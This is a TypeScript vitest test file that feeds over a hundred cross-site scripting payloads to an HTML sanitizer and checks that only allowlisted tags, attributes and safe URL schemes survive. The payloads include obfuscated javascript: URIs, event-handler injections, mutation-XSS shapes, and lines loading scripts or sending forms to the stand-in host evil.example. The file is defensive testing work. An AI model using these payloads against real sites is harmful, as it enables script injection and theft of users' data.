import { htmlAllowlist } from '@paddock/domain';
import { describe, expect, it } from 'vitest';
import { sanitize } from '../../../platform/html/sanitize.ts';

const scripts = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java&#x0A;script:alert(1)',
  'java&Tab;script:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
  '\u0001javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  'javascript\u0000:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'blob:https://evil.example/x',
  'file:///etc/passwd',
  'feed:javascript:alert(1)',
  'view-source:javascript:alert(1)',
  '//evil.example',
  '/\\evil.example',
  '\\\\evil.example',
];

const handlers = ['onclick', 'onerror', 'onload', 'onmouseover', 'onfocus', 'ontoggle', 'onpointerenter'];
const hosts = ['p', 'a', 'img src=x', 'h2', 'table', 'details open', 'div', 'svg', 'body', 'video'];

const shapes = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<style><img src="</style><img src=x onerror=alert(1)>"></style>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src="x">',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:x">Go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<template><script>alert(1)</script></template>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<p style="text-align:center;behavior:url(#x)">x</p>',
  '<p style="margin-left:expression(alert(1))">x</p>',
  '<img src=x srcset="javascript:alert(1) 1x">',
  '<video><source onerror="alert(1)"></video>',
  '<a href="https://a.example" ping="//evil.example">x</a>',
  '<p id="root" class="x" name="y" data-x="1" slot="z" is="x-y">x</p>',
  '<img src=x`onerror=alert(1)>',
  '<a/href="javascript:alert(1)">x</a>',
  '<img """><script>alert(1)</script>">',
  '<p/onclick=alert(1)//x>y</p>',
];

const attacks = [
  ...shapes,
  ...scripts.map((address) => `<a href="${address}">x</a>`),
  ...scripts.map((address) => `<img src="${address}" alt="x">`),
  ...handlers.flatMap((handler) => hosts.slice(0, 4).map((host) => `<${host} ${handler}="alert(1)">x`)),
  ...hosts.map((host) => `<${host} ONFOCUS=alert(1) autofocus tabindex=0>x`),
];

const elements = new Set(Object.keys(htmlAllowlist.elements));
const attributes = (element: string) =>
  new Set<string>([
    ...htmlAllowlist.globalAttributes,
    ...htmlAllowlist.elements[element as keyof typeof htmlAllowlist.elements],
  ]);

/**
 * Every tag of the sanitized HTML, with its name and attributes, relying on the strict format that the sanitizer
 * writes.
 */
function tagsOf(html: string) {
  return [...html.matchAll(/<([a-z0-9]+)((?: [a-z-]+(?:="[^"<>]*")?)*)(?: \/)?>/g)].map(
    ([, name = '', own = '']) => ({
      name,
      attributes: [...own.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)].map(([, key = '', value = '']) => ({
        key,
        value,
      })),
    }),
  );
}

describe('sanitizing attacks', () => {
  it('covers a hundred and more', () => expect(attacks.length).toBeGreaterThan(100));

  it.each(attacks)('[CON-09] leaves nothing of %s but what the list allows', (attack) => {
    const sanitized = sanitize(attack);
    // No other `<` remains than those of the tags that are read here.
    const tags = tagsOf(sanitized);
    expect(sanitized.match(/<(?!\/)/g)?.length ?? 0).toBe(tags.length);
    for (const tag of tags) {
      expect(elements).toContain(tag.name);
      for (const { key, value } of tag.attributes) {
        expect(attributes(tag.name)).toContain(key);
        if (key === 'href' || key === 'src') expect(value).toMatch(/^(?:https?:\/\/|mailto:|tel:|x)/);
        if (key === 'style') expect(value).not.toMatch(/url|expression|position|behavior/);
      }
    }
    expect(sanitize(sanitized)).toBe(sanitized);
  });
});
